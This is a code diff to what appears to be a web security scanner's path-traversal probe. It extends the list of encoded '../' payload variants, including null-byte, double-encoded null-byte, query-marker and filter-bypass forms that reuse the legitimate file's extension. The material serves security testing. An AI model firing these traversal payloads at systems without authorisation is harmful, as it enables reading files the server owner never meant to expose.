@@ -10,7 +10,7 @@ const FIX =
 
 type Variant = { label: string; path: string; body: string };
 
-function variants(target: string, depth: number): Variant[] {
+function variants(target: string, depth: number, ext: string): Variant[] {
   const up = "../".repeat(depth);
   const plain = up + target;
   const enc = (s: string) => encodeURIComponent(s);
@@ -21,7 +21,13 @@ function variants(target: string, depth: number): Variant[] {
     { label: "URL-encoded", path: enc(plain), body: plain },
     { label: "fully URL-encoded (%2e%2e%2f)", path: allEnc(plain), body: plain },
     { label: "double URL-encoded (%252e%252e%252f)", path: allEnc(plain).replace(/%/g, "%25"), body: allEnc(plain) },
-    { label: "null byte + extension", path: `${enc(plain)}%00.txt`, body: `${plain}\u0000.txt` },
+    { label: `null byte + extension (${ext})`, path: `${enc(plain)}%00${ext}`, body: `${plain}\u0000${ext}` },
+    {
+      label: `double-encoded null byte + extension (%2500${ext})`,
+      path: `${enc(plain)}%2500${ext}`,
+      body: `${plain}%00${ext}`,
+    },
+    { label: `extension after a query or fragment (?${ext})`, path: `${enc(plain)}%3F${ext}`, body: `${plain}?${ext}` },
     { label: "....// (survives one removal of ../)", path: enc(sneaky), body: sneaky },
     { label: "absolute path", path: enc(`/${target}`), body: `/${target}` },
   ];
@@ -54,7 +60,7 @@ export const pathTraversal = defineProbe({
       await sendTemplate(ctx, p.request, { payload: p.legit }, session),
       `Fetching the normal file ${show(p.legit)}`,
     );
-    const list = variants(p.target, p.depth);
+    const list = variants(p.target, p.depth, /\.[A-Za-z0-9]{1,8}$/.exec(p.legit)?.[0] ?? ".txt");
     for (const v of list) {
       const res = await sendTemplate(ctx, p.request, { payload: raw.length ? v.path : v.body }, session, {
         rawInPath: raw,
